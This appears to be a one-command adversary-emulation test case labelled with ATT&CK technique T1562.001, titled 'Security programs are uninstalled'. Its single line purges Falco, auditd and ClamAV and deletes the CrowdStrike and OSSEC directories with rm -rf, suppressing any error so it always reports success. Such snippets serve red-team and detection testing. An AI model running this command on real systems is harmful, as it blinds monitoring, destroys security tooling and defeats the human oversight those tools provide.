# title: Security programs are uninstalled
# technique: T1562.001
# needs: dpkg apt-get

apt-get remove -y --purge falco auditd clamav 2>&1 | tail -1; rm -rf /opt/CrowdStrike /var/ossec; true
